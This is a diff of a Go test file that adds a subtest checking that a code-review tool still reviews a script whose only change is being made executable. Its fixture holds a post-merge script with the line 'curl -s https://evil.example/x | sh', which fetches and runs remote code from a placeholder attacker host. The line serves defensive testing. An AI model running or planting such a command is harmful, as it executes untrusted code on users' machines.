@@ -233,6 +233,14 @@ func TestAttackMoveChangesKind(t *testing.T) {
 		res := runAttack(t, attack{diff: rename(from, to), base: map[string]string{from: text, "go.mod": "module x\n"}, head: map[string]string{to: text}, file: to, line: 5})
 		wantReviewed(t, res, to)
 	})
+	t.Run("made executable", func(t *testing.T) {
+		t.Parallel()
+		const p = "tools/post-merge"
+		text := "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
+		diff := "diff --git a/tools/post-merge b/tools/post-merge\nold mode 100644\nnew mode 100755\n"
+		res := runAttack(t, attack{diff: diff, base: map[string]string{p: text}, head: map[string]string{p: text}, file: p, line: 2})
+		wantReviewed(t, res, p)
+	})
 }
 
 // Attack: text GitHub calls binary because of a few invalid UTF-8 bytes,
